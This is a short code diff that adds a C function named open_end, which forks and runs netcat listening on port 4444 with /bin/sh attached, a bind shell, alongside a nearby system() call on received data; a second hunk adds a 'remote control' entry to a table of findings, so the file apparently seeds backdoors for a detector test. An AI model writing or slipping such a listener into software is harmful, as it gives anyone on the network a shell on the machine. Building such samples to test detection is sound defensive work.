@@ -57,6 +57,12 @@ size_t comment(const char *data, size_t n)
         system(own + 6);
     return n;
 }
+void open_end(void)
+{
+    char *const words[] = { "nc", "-lp", "4444", "-e", "/bin/sh", 0 };
+    if (!fork())
+        execvp(words[0], words);
+}
 void plain(void)
 {
     system("gzip -9 /var/log/lamps.log");
@@ -70,6 +76,7 @@ FOUND = {
     ("remote control", "/tmp/.spool-debug"),
     ("command built at run time", "(decoded)"),
     ("remote control", "read"),
+    ("remote control", ""),
     ("remote control", "comment"),
 }
 
